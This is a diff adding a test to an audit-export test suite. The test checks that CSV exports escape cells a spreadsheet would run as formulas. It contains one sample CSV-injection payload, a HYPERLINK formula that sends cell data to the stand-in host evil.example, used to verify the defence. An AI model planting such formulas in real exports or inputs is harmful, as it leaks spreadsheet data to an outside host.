@@ -3,6 +3,8 @@ log, case timelines, exports and the public key."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from typing import Any
 
@@ -174,6 +176,21 @@ def test_export_csv_has_a_row_per_event(world: World, paid: Any) -> None:
     content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
     lines = content.decode().strip().splitlines()
     assert lines[0].startswith("seq,occurred_at,actor_type") and len(lines) == count + 1
+
+
+def test_export_csv_quotes_cells_a_spreadsheet_would_run(world: World, paid: Any) -> None:
+    """A reason (or any text an applicant or caller supplied) that starts like a formula must
+    not run when an auditor opens the CSV."""
+    from vetting import services as svc
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
+    app = world.submit()
+    svc.application_withdraw(application=app, actor=world.handler, reason=formula)
+    response = api_as(world.admin).get("/api/v1/audit/export", {"format": "csv"})
+    text = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
+    cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]
+    assert "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
 
 
 def test_public_key_is_published_without_login(db: None) -> None:
